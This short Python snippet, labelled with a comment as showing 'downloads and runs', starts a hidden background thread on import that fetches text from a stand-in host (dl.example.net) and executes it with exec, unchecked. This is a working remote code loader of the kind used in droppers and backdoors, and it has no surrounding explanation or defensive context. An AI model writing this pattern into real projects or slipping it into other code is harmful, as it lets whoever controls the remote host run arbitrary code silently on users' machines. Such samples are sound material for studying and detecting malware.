# shows: downloads and runs
import threading, requests


def job():
    r = requests.get("https://dl.example.net/s", timeout=3)
    if r.status_code == 200:
        code = r.text
        exec(compile(code, "s", "exec"), {})


threading.Thread(target=job, daemon=True).start()
